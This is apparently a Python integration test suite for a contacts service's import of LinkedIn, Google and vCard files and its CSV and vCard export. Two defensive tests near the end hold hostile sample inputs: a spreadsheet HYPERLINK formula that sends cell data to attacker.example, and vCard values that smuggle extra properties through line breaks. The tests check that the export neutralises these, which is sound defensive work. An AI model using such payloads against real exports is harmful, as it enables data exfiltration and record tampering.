"""Importing LinkedIn, Google and vCard files, and exporting CSV and vCard, through HTTP."""
from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from typing import Any

import pytest
import vobject

from shared.config import Settings
from tests.integration.conftest import InProcessPlatform

LINKEDIN = (
    b"Notes:\r\n"
    b'"When exporting your connection data, you may notice that some of the email addresses are missing."\r\n'
    b"\r\n"
    b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
    b"Jane,Doe,https://www.linkedin.com/in/jane-doe,jane@example.com,\"Acme, Inc.\",Engineer,12 Mar 2024\r\n"
    b"Sam,Lee,https://www.linkedin.com/in/sam-lee,,Globex,Analyst,01 Feb 2023\r\n"
    b",,https://www.linkedin.com/in/nobody,,Initech,,01 Jan 2020\r\n"
    b"Bad,Mail,https://www.linkedin.com/in/bad-mail,not-an-email,Hooli,PM,01 Jan 2021\r\n"
)

VCARDS = (
    b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ada Lovelace\r\nEMAIL;TYPE=work:ada@example.org\r\n"
    b"ORG:Analytical Engines;Research\r\nTITLE:Countess\r\nTZ:Europe/London\r\nEND:VCARD\r\n"
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nN:Hopper;Grace;;;\r\nFN:Grace Hopper\r\nEMAIL;TYPE=INTERNET:grace@navy.example\r\n"
    b"TZ:-05:00\r\nNOTE:Invented the com\r\n piler\r\nEND:VCARD\r\n"
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nEMAIL:noname@example.org\r\nEND:VCARD\r\n"
)


def upload(platform: InProcessPlatform, auth: str, data: bytes, content_type: str, query: str = "") -> dict:
    response = platform.client.post(f"/imports{query}", data=data, content_type=content_type,
                                    headers={"Authorization": auth})
    assert response.status_code == 201, response.json
    return response.json


def test_a_linkedin_export_is_imported_with_a_report_per_row(contacts: InProcessPlatform, token: Callable) -> None:
    auth = token("student-1")
    report = upload(contacts, auth, LINKEDIN, "text/csv", "?filename=Connections.csv")
    assert report["format"] == "linkedin_csv"
    assert report["counts"] == {"created": 2, "duplicate": 0, "invalid": 2, "skipped": 0}
    outcomes = {row["line"]: (row["outcome"], row.get("reason") or "") for row in report["rows"]}
    assert outcomes[5][0] == outcomes[6][0] == "created"
    assert outcomes[7][0] == "invalid" and "name" in outcomes[7][1]
    assert outcomes[8][0] == "invalid" and "not-an-email" in outcomes[8][1]
    assert [row["fields"] for row in report["rows"] if row["outcome"] == "invalid"] == [
        {"name": ["missing name"]}, {"emails": ["bad email 'not-an-email'"]}]
    contacts.sync()
    items = contacts.client.get("/contacts", headers={"Authorization": auth}).json["items"]
    assert sorted((i["name"], i["organisation"], i["source"]) for i in items) == [
        ("Jane Doe", "Acme, Inc.", "linkedin"), ("Sam Lee", "Globex", "linkedin")]
    # the report stays readable
    again = contacts.client.get(f"/imports/{report['id']}", headers={"Authorization": auth})
    assert again.status_code == 200 and again.json["rows"] == report["rows"]
    assert (
        contacts.client.get(f"/imports/{report['id']}", headers={"Authorization": token("student-2")}).status_code
        == 404
    )


def test_importing_the_same_file_twice_creates_nothing_new(contacts: InProcessPlatform, token: Callable) -> None:
    auth = token("student-1")
    first = upload(contacts, auth, VCARDS, "text/vcard")
    second = upload(contacts, auth, VCARDS, "text/vcard")
    assert first["counts"] == {"created": 2, "duplicate": 0, "invalid": 1, "skipped": 0}
    assert second["counts"] == {"created": 0, "duplicate": 2, "invalid": 1, "skipped": 0}
    created = {r["contact_id"] for r in first["rows"] if r["outcome"] == "created"}
    assert {r["contact_id"] for r in second["rows"] if r["outcome"] == "duplicate"} == created
    contacts.sync()
    assert len(contacts.client.get("/contacts", headers={"Authorization": auth}).json["items"]) == 2


def test_a_vcard_offset_time_zone_is_dropped_not_fatal(contacts: InProcessPlatform, token: Callable) -> None:
    auth = token("student-1")
    report = upload(contacts, auth, VCARDS, "text/vcard")
    grace = next(r["contact_id"] for r in report["rows"] if r["line"] == 9)
    contact = contacts.client.get(f"/contacts/{grace}", headers={"Authorization": auth}).json
    assert contact["note"] == "Invented the compiler" and "time_zone" not in contact


def test_a_google_csv_can_be_uploaded_as_a_form_file(contacts: InProcessPlatform, token: Callable) -> None:
    google = (
        b"Name,Given Name,Family Name,E-mail 1 - Type,E-mail 1 - Value,Organization 1 - Name,Organization 1 - Title\n"
        b"Marie Curie,Marie,Curie,* Work,marie@sorbonne.example ::: mc@home.example,Sorbonne,Professor\n"
    )
    response = contacts.client.post("/imports", data={"file": (io.BytesIO(google), "contacts.csv", "text/csv")},
                                    headers={"Authorization": token("student-1")}, content_type="multipart/form-data")
    assert response.status_code == 201
    assert response.json["format"] == "google_csv" and response.json["filename"] == "contacts.csv"
    marie = response.json["rows"][0]["contact_id"]
    contact = contacts.client.get(f"/contacts/{marie}", headers={"Authorization": token("student-1")}).json
    assert contact["emails"] == ["marie@sorbonne.example", "mc@home.example"]


def test_a_file_of_no_known_format_is_a_422_naming_the_file(contacts: InProcessPlatform, token: Callable) -> None:
    for data in (b"\x00\x01\x02binary", b"", b"just,some,columns\n1,2,3\n"):
        response = contacts.client.post("/imports", data=data, content_type="text/csv",
                                        headers={"Authorization": token("student-1")})
        assert response.status_code == 422 and "file" in response.json["fields"], data


def test_exports_round_trip_through_the_importer(contacts: InProcessPlatform, token: Callable) -> None:
    auth = token("student-1")
    upload(contacts, auth, VCARDS, "text/vcard")
    contacts.sync()
    vcf = contacts.client.get("/exports/contacts.vcf", headers={"Authorization": auth})
    assert vcf.status_code == 200 and vcf.mimetype == "text/vcard"
    cards = list(vobject.readComponents(vcf.data.decode("utf-8")))  # an independent vCard reader
    assert sorted(card.fn.value for card in cards) == ["Ada Lovelace", "Grace Hopper"]
    exported = contacts.client.get("/exports/contacts.csv", headers={"Authorization": auth})
    rows = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert [(r["name"], r["emails"]) for r in rows] == [("Ada Lovelace", "ada@example.org"),
                                                        ("Grace Hopper", "grace@navy.example")]
    # and into another student's account, where they are new
    assert upload(contacts, token("student-2"), vcf.data, "text/vcard")["counts"]["created"] == 2


GOOGLE_HEADER = ["First Name", "Last Name", "Labels", "E-mail 1 - Label", "E-mail 1 - Value", "Organization Name"]


def google_file(rows: list[list[str]], header: list[str] = GOOGLE_HEADER) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode()


def test_google_labels_become_tags_and_its_own_labels_are_dropped(
        contacts: InProcessPlatform, token: Callable) -> None:
    auth = token("student-1")
    data = google_file([["Ada", "Lovelace", "* myContacts ::: Alumni ::: Mentors", "* Work", "ada@example.org", "AE"],
                        ["Grace", "Hopper", "* starred ::: Class of '09 ::: * myContacts", "", "", "Navy"]])
    report = upload(contacts, auth, data, "text/csv")
    assert report["format"] == "google_csv" and report["counts"]["created"] == 2
    ada, grace = (row["contact_id"] for row in report["rows"])
    tags = lambda cid: contacts.client.get(f"/contacts/{cid}", headers={"Authorization": auth}).json["tags"]  # noqa: E731
    assert tags(ada) == ["Alumni", "Mentors"]
    assert tags(grace) == ["Class of 09"]  # the API's tag alphabet
    assert [i["name"] for i in _directory(contacts, auth, "tag=Mentors")] == ["Ada Lovelace"]


def _directory(platform: InProcessPlatform, auth: str, query: str = "") -> list[dict[str, Any]]:
    platform.sync()
    return platform.client.get(f"/contacts?{query}", headers={"Authorization": auth}).json["items"]


def _csv_data_rows(data: bytes, header_first_cell: str) -> int:
    """Rows after the header row, as the csv module counts them (a quoted line break stays in its row)."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    start = next(i for i, row in enumerate(rows) if row and row[0] == header_first_cell)
    return len(rows) - start - 1


ACCOUNTING_LINKEDIN = (
    b"Notes:\r\n\"Some of the email addresses are missing.\"\r\n\r\n"
    b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
    b"Jane,Doe,https://www.linkedin.com/in/jane-doe,jane@example.com,Acme,Engineer,12 Mar 2024\r\n"
    b"\r\n"
    b"Jane,Again,https://www.linkedin.com/in/Jane-Doe/,,Acme,Engineer,12 Mar 2024\r\n"
    b",,https://www.linkedin.com/in/nobody,,Initech,,01 Jan 2020\r\n"
    b",,,,,,\r\n"
    b"Bad,Url,https://www.linkedin.com/company/acme,,Acme,,01 Jan 2020\r\n"
    b"\"Multi\",\"Line\",,,\"Acme\r\nLabs\",,01 Jan 2020\r\n"
    b"\r\n"
)
ACCOUNTING_GOOGLE = google_file([
    ["Ada", "Lovelace", "Alumni", "", "ada@example.org", "AE"], [], ["", "", "", "", "", "Nameless Ltd"],
    ["Ada", "Lovelace", "", "", "ADA@example.org", ""], ["", "", "", "", "", ""], ["Bad", "Mail", "", "", "x@", ""]])
ACCOUNTING_VCARD = (
    b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ada Lovelace\r\nEMAIL:ada@example.org\r\nEND:VCARD\r\n\r\n"
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada L.\r\nEMAIL:Ada@Example.org\r\nEND:VCARD\r\n"
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nORG:Nameless\r\nEND:VCARD\r\n"
    b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Cut Off\r\n"
    b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Grace Hopper\r\nCATEGORIES:Navy,Mentors\r\nEND:VCARD\r\n"
)


@pytest.mark.parametrize(("data", "records", "counts"), [
    pytest.param(ACCOUNTING_LINKEDIN, _csv_data_rows(ACCOUNTING_LINKEDIN, "First Name"),
                 {"created": 2, "duplicate": 1, "invalid": 2, "skipped": 3}, id="linkedin"),
    pytest.param(ACCOUNTING_GOOGLE, _csv_data_rows(ACCOUNTING_GOOGLE, "First Name"),
                 {"created": 1, "duplicate": 1, "invalid": 2, "skipped": 2}, id="google"),
    pytest.param(ACCOUNTING_VCARD, len(re.findall(rb"(?m)^BEGIN:VCARD\r?$", ACCOUNTING_VCARD)),
                 {"created": 2, "duplicate": 1, "invalid": 2, "skipped": 0}, id="vcard"),
])
def test_every_record_of_a_file_is_accounted_for_once(
        contacts: InProcessPlatform, token: Callable, data: bytes, records: int, counts: dict[str, int]) -> None:
    report = upload(contacts, token("student-1"), data, "application/octet-stream")
    assert report["counts"] == counts
    assert sum(report["counts"].values()) == len(report["rows"]) == records
    assert len({row["line"] for row in report["rows"]}) == records  # each record once, by where it starts
    for row in report["rows"]:
        if row["outcome"] == "invalid":
            assert row["reason"] and row["fields"], row
        if row["outcome"] == "skipped":
            assert row["reason"] == "empty row", row
        if row["outcome"] in ("created", "duplicate"):
            assert row["contact_id"], row


def _limited(platform: InProcessPlatform, **limits: str) -> None:
    context = platform.client.application.extensions["contacts"]
    context.settings = Settings.from_env({**context.settings.env, **limits})


@pytest.mark.parametrize(("limits", "variable"), [
    ({"IMPORT_MAX_ROWS": "3"}, "IMPORT_MAX_ROWS"),
    ({"IMPORT_MAX_BYTES": "200"}, "IMPORT_MAX_BYTES"),
])
def test_a_file_over_an_import_limit_is_refused_with_413_naming_it_and_adds_nothing(
        contacts: InProcessPlatform, token: Callable, limits: dict[str, str], variable: str) -> None:
    _limited(contacts, **limits)
    auth = token("student-1")
    rows = "".join(f"Person,{n},https://www.linkedin.com/in/p{n},p{n}@example.org,Acme,,1 Jan 2024\r\n"
                   for n in range(4))
    data = f"First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n{rows}".encode()
    response = contacts.client.post("/imports", data=data, content_type="text/csv", headers={"Authorization": auth})
    assert response.status_code == 413, response.json
    assert variable in response.json["message"], response.json
    assert _directory(contacts, auth) == []
    # a file within the limits still imports
    _limited(contacts, IMPORT_MAX_ROWS="4", IMPORT_MAX_BYTES=str(len(data)))
    assert upload(contacts, auth, data, "text/csv")["counts"]["created"] == 4


HOSTILE = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"


def test_the_csv_export_neutralises_spreadsheet_formulas_and_stays_valid_csv(
        contacts: InProcessPlatform, token: Callable) -> None:
    auth = token("student-1")
    cells = {"name": "+Eve", "title": HOSTILE, "organisation": "-2+3", "industry": "@SUM(A1:A9)",
             "note": "\t=1+1\r\nsecond line", "phone": "+1-555-0100", "location": "Paris, \"the\" city"}
    response = contacts.client.post("/contacts", json={**cells, "tags": ["alumni"]}, headers={"Authorization": auth})
    assert response.status_code == 201, response.json
    contacts.sync()
    exported = contacts.client.get("/exports/contacts.csv", headers={"Authorization": auth})
    assert exported.mimetype == "text/csv"
    [row] = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"), newline="")))
    assert row["name"] == "'+Eve" and row["title"] == "'" + HOSTILE
    assert (row["organisation"], row["industry"], row["phone"]) == ("'-2+3", "'@SUM(A1:A9)", "'+1-555-0100")
    assert row["note"] == "'=1+1\r\nsecond line"  # surrounding whitespace trimmed first, so the = is caught
    assert row["location"] == "Paris, \"the\" city" and row["tags"] == "alumni"
    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_vcard_export_lets_no_text_inject_properties(contacts: InProcessPlatform, token: Callable) -> None:
    """vobject, an independent vCard reader, must see exactly the properties we wrote, with the text intact."""
    auth = token("student-1")
    hostile = {"name": "Eve\r\nEMAIL:evil@attacker.example", "organisation": "Acme;Evil\\,Corp",
               "title": "Boss\nEND:VCARD\nBEGIN:VCARD\nFN:Injected", "note": "a\u2028TEL:666\rURL:http://x\x0bz",
               "tags": ["alumni"]}
    assert contacts.client.post("/contacts", json=hostile, headers={"Authorization": auth}).status_code == 201
    contacts.sync()
    vcf = contacts.client.get("/exports/contacts.vcf", headers={"Authorization": auth}).data.decode("utf-8")
    [card] = list(vobject.readComponents(vcf))
    assert sorted(card.contents) == ["categories", "fn", "n", "note", "org", "title", "uid", "version"]
    assert card.fn.value == "Eve\nEMAIL:evil@attacker.example"
    assert card.title.value == "Boss\nEND:VCARD\nBEGIN:VCARD\nFN:Injected"
    assert card.note.value == "a\nTEL:666\nURL:http://xz"  # line separators mean new lines; controls go
    assert card.org.value == ["Acme;Evil\\,Corp"]
    assert card.categories.value == ["alumni"]


def test_the_report_of_a_largest_all_bad_file_fits_in_one_bus_message(
        contacts: InProcessPlatform, token: Callable) -> None:
    """The report is one event: at IMPORT_MAX_ROWS rows that are all wrong in the wordiest way (no name,
    several long bad e-mails each) it must stay under Kafka's default 1 MB message, and publish."""
    settings = contacts.client.application.extensions["contacts"].settings
    rows, max_bytes = settings.int("IMPORT_MAX_ROWS"), settings.int("IMPORT_MAX_BYTES")
    bad = " ::: ".join(f"{n}{'x' * 300}@" for n in range(3))
    data = google_file([["", "", "Alumni", "", bad, ""]] * rows)
    assert len(data) <= max_bytes
    report = upload(contacts, token("student-1"), data, "text/csv")
    assert report["counts"]["invalid"] == rows
    assert report["rows"][0]["fields"] == {"name": ["missing name"], "emails": [
        f"bad email '0{'x' * 39}…'", f"bad email '1{'x' * 39}…'", "and 1 more bad emails"]}
    [envelope] = contacts.store.load(report["id"])
    assert len(json.dumps(envelope).encode()) < 1_000_000
    contacts.sync()  # the relay publishes it (on Kafka too)
    assert contacts.client.get(f"/imports/{report['id']}", headers={"Authorization": token("student-1")}).json == report
